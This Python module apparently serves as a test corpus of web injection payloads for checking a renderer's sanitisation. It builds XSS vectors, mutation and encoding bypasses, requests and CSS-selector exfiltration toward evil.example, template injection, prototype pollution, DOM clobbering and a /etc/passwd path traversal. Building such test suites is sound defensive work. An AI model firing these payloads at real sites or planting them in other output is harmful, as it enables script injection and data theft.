"""Texts that run a script, ask a server or rebuild the page wherever a program takes them for more than text.

Made from lists, so that a new trick is one line.
Each that runs calls `alert(7)` and sets `pwned`; each that asks, asks evil.example.
"""

import re
from collections.abc import Iterator
from typing import Final

#: A code span in Markdown: it ends at a run of as many backticks as it began with (CommonMark, section 6.1).
SPAN: Final = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)")

_RUN: Final = "alert(7),top.pwned=7"
_HOST: Final = "evil.example"
_URL: Final = f"//{_HOST}/x"

#: What begins outside of markup, inside of an attribute, or inside of an element whose content is text.
_BREAKS: Final = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</pre></bdi>",
)
_ELEMENTS: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
)

_EVENTS: Final = (
    "audio src=x onerror",
    "body onload",
    "body onpageshow",
    "button autofocus onfocus",
    "details open ontoggle",
    "div contenteditable autofocus onfocus",
    "div style=animation-name:x onanimationstart",
    "div popover id=p1 onbeforetoggle",
    "form onformdata",
    "frameset onload",
    "iframe onload",
    "image src=x onerror",
    "img src=x onerror",
    "img srcset=x onerror",
    "input autofocus onfocus",
    "input type=image src=x onerror",
    "keygen autofocus onfocus",
    "link rel=stylesheet href=x onerror",
    "marquee onstart",
    "math onclick",
    "object data=x onerror",
    "p onpointerenter",
    "picture><source srcset=x><img onerror",
    "script src=x onerror",
    "select autofocus onfocus",
    "slot onslotchange",
    "style onload",
    "svg><animate begin=0s attributeName=x onbegin",
    "svg><discard onbegin",
    "svg><image href=x onerror",
    "svg><script href=x onerror",
    "svg><set begin=0s attributeName=x onbegin",
    "textarea autofocus onfocus",
    "track src=x onerror",
    "video autoplay src=x onerror",
    "video><source onerror",
    "xss autofocus tabindex=1 onfocus",
)

_SCRIPT_URLS: Final = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"javascript&#x3a;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='{_RUN}'>//",
    f"javascript://%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>",
    f"vbscript:{_RUN}",
    f"blob:null/{_HOST}",
    f"view-source:{_URL}",
)
_LINKS: Final = ('<a href="{}">550 5.7.705</a>', '<iframe src="{}"></iframe>', "{}")

_ASKS: Final = (
    f"<img src={_URL}>",
    f"<img srcset='{_URL} 1x'>",
    f"<link rel=prefetch href={_URL}>",
    f"<link rel=dns-prefetch href={_URL}>",
    f"<link rel=stylesheet href={_URL}>",
    f"<link rel=modulepreload href={_URL}>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href={_URL}>",
    f"<form action={_URL}><button autofocus>5.7.705</button></form>",
    f"<button form=x formaction={_URL}>x",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<video poster={_URL}></video>",
    f"<audio src={_URL} autoplay>",
    f"<svg><use href='{_URL}#x'/></svg>",
    f"<svg><image xlink:href={_URL} /></svg>",
    f"<table background={_URL}>",
    f"<style>@import '{_URL}';</style>",
    f"<style>*{{background:url({_URL})}}</style>",
    f"<style>input[value^='5']{{background:url({_URL}?5)}}</style>",
    f"<p style='background:url({_URL})'>",
    f'<p style="width:expression({_RUN});behavior:url({_URL})">',
    f"<a ping={_URL} href=#>x</a>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{_URL}"]}}]}}</script>',
    f'<script type=importmap>{{"imports":{{"./note.mjs":"{_URL}"}}}}</script>',
    f"<script type=module src={_URL}></script>",
    f"<portal src={_URL}>",
    f"<fencedframe src={_URL}>",
    f"<?xml-stylesheet href='{_URL}'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_URL}'>]><x>&e;</x>",
    f"![x]({_URL}) [x]({_URL}) <{_URL}>",
)

#: Harmless in one reading, markup in the next.
_MUTANTS: Final = (
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<math><annotation-xml encoding='text/html'><script>{_RUN}</script>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_RUN}</script>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<listing>&lt;img src=x onerror={_RUN}&gt;</listing>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<<script>{_RUN}//<</script>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script/x>",
    f"<img/src=x/onerror={_RUN}//",
    f"<img src=x\x0bonerror={_RUN}>",
    f"<img\tsrc=x\fonerror={_RUN}>",
    f"<svg/onload={_RUN} ",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<!-- --!><img src=x onerror={_RUN}> -->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;img src=x onerror={_RUN}&amp;gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"&#x3c;img src=x onerror={_RUN}&#x3e;",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
    f"%253Cimg%2520src=x%2520onerror={_RUN}%253E",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"=3Cimg src=3Dx onerror=3D{_RUN}=3E",
    f"=?utf-8?q?=3Cimg_src=3Dx_onerror=3D{_RUN}=3E?=",
    "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDcpPg==?=",
    f"+ADw-img src+AD0-x onerror+AD0-{_RUN}+AD4-",
    f"\xbcimg src=x onerror={_RUN}\xbe",
    f"\uff1cimg src=x onerror={_RUN}\uff1e",
    f"\u2039img src=x onerror={_RUN}\u203a",
    f"<\0script>{_RUN}</\0script>",
    f"<img src=x o\0nerror={_RUN}>",
    f"\ufeff<img src=x onerror={_RUN}>",
    f"\u202e>{_RUN}=rorreno x=crs gmi<\u202c",
    f"\u2066<img src=x onerror={_RUN}>\u2069",
    f"\u2028<img src=x onerror={_RUN}>\u2029",
    f"<i\u200bmg src=x onerror={_RUN}>",
    f"<i\ufe0fm\U000e0100g src=x onerror={_RUN}>",
    f"<\U000e0069mg src=x onerror={_RUN}>",
    f"\x1b]8;;{_URL}\x07click\x1b]8;;\x07<img src=x onerror={_RUN}>",
    f"\x9b31m<img src=x onerror={_RUN}>",
    f"\ud7ff\ue000<img src=x onerror={_RUN}>",
)

#: Where text becomes a template, a key, a selector, an address or code.
_OF_PROGRAMS: Final = (
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"{{{{{_RUN}}}}}",
    f"<%= {_RUN} %>",
    f"#{{{_RUN}}}",
    f"[[${{{_RUN}}}]]",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"`;{_RUN};//",
    f"\\';{_RUN};//",
    f"*/{_RUN}/*",
    f"</script><script>{_RUN}</script>",
    f"__import__('js').eval('{_RUN}')",
    f'"}}]}},"title":"{_RUN}',
    "__proto__",
    "constructor",
    "prototype",
    "__proto__[pwned]=7",
    "constructor.prototype.pwned=7",
    '{"__proto__":{"pwned":7}}',
    '{"constructor":{"prototype":{"pwned":7}}}',
    "toString",
    "hasOwnProperty",
    "then",
    "[object Object]",
    "undefined",
    "$& $` $' $1 $<x>",
    "#ndr-result, *{display:none}",
    "') or ('",
    "%",
    "%E0%A4%A",
    "%00",
    "#code=5.7.705",
    "#code=javascript:alert(7)",
    "?q=<img src=x onerror=alert(7)>",
    "?h=<img src=x onerror=alert(7)>",
    "../../../etc/passwd",
    "..\\..\\x.exe",
    f"file.eml<img src=x onerror={_RUN}>",
    f"x\u202elme.exe<svg onload={_RUN}>",
)

#: What Markdown, as code hosts and ticket systems read it, makes of a text.
_MARKDOWN: Final = (
    f"![x]({_URL})",
    f"[5.7.705](https:{_URL})",
    f"[x]: https:{_URL}",
    f"<https:{_URL}>",
    f"https:{_URL}",
    "<b onclick=alert(7)>x</b>",
    "<details open><summary>x</summary>",
    "<!--",
    "@contoso/team",
    "contoso/repo#123 #123 GH-123",
    "| a | b |\n| - | - |\n| c | d |",
    "\n# x\n",
    "\nx\n===\n",
    "\n```\nx\n```\n",
    "\n~~~\n",
    "```",
    "`` `",
    "`a``b```c",
    "\\`x\\`",
    "**x** _x_ ~~x~~ :boom: $x$",
    "\n- [x] x\n1. x\n",
    "\n> x\n",
    "\n---\n",
    "\n\n    x\n",
    "[^1]\n\n[^1]: x",
    "&lt;&#64;team",
    "\n/close\n",
)

#: Names by which a script finds its own things.
_NAMES: Final = (
    *(
        "ndr-text",
        "ndr-result",
        "ndr-status",
        "ndr-heading",
        "ndr-alert",
        "ndr-retry",
        "__md_scope",
        "__config",
        "__search",
    ),
    *(
        "document$",
        "location",
        "self",
        "top",
        "body",
        "cookie",
        "getElementById",
        "attributes",
        "children",
        "parentNode",
    ),
)
_CLOBBERS: Final = ("<a id={0}>", "<img name={0}>", "<form id={0}><input name={0}></form>")


def _all() -> Iterator[str]:
    yield from (f"{out}{element}" for out in _BREAKS for element in _ELEMENTS)
    yield from (f"<{start}={_RUN}>" for start in _EVENTS)
    yield from (link.format(url) for url in _SCRIPT_URLS for link in _LINKS)
    yield from (*_ASKS, *_MUTANTS, *_OF_PROGRAMS, *_MARKDOWN)
    yield from (clobber.format(name) for name in _NAMES for clobber in _CLOBBERS)


PAYLOADS: Final = tuple(dict.fromkeys(_all()))
